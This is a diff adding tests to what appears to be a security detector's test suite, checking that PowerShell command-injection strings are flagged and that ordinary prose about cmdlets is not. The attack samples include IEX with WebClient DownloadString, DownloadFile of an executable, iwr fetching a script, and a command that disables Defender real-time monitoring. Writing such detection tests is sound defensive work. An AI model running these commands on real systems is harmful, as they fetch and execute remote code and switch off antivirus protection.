@@ -575,3 +575,17 @@ describe("sensitive files: every name of the list, past the 32 a 32-bit table he
     for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Traversal)).toBe(false, benign[i]);
   });
 });
+
+describe("PowerShell that fetches or runs code (cmdi)", () => {
+  it("flags cmdlets with an argument, aliases after a separator, WebClient downloads", () => {
+    const attacks: StaticArray<string> = ["Invoke-WebRequest http://example.com/path/file.ps1", "Invoke-Expression -Command file.ps1", ";iwr http://example.com/path/file.ps1",
+      ";iwmi -class Win32_process -name Create -ArgumentList cmd", "IEX (New-Object Net.WebClient).DownloadString('http://x/a')", "Start-Process calc.exe",
+      "Set-MpPreference -DisableRealtimeMonitoring $true", "x | iex", "(New-Object System.Net.WebClient).DownloadFile('http://x/p.exe','p.exe')"];
+    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Cmdi)).toBe(true, attacks[i]);
+  });
+  it("leaves prose about cmdlets alone", () => {
+    const benign: StaticArray<string> = ["the Invoke-WebRequest cmdlet is documented here", "use Start-Process to launch apps", "Invoke-Expression", "iwr is an alias",
+      "new-object model for the team"];
+    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
+  });
+});
